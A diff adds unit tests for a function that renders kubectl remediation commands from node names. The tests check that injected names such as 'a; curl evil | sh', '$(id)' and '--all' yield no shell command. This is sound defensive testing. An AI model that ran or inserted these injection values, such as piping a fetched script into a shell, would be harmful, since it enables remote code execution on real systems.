@@ -76,4 +76,24 @@ describe('renderRemedy', () => {
       docs: [],
     });
   });
+
+  it.each(['a; curl evil | sh', '$(id)', 'a\nb', "a'", '--all', 'a --all'])(
+    'brings no command with the name %j, which a shell would read otherwise',
+    node => {
+      const { text, commands } = renderRemedy(remedy, { node, pod: 'p' }, []);
+
+      expect(commands).toEqual(['kubectl logs p']);
+      expect(text).toBe(`Upgrade ${node}.`);
+    },
+  );
+
+  it('brings commands with several names, and with the pieces of our own tables', () => {
+    const commands = ['kubectl taint node {nodes}', '{look}'];
+    const values = { nodes: 'a b', look: 'kubectl get pods | grep cloud' };
+
+    expect(renderRemedy({ ...remedy, commands }, values, []).commands).toEqual([
+      'kubectl taint node a b',
+      'kubectl get pods | grep cloud',
+    ]);
+  });
 });
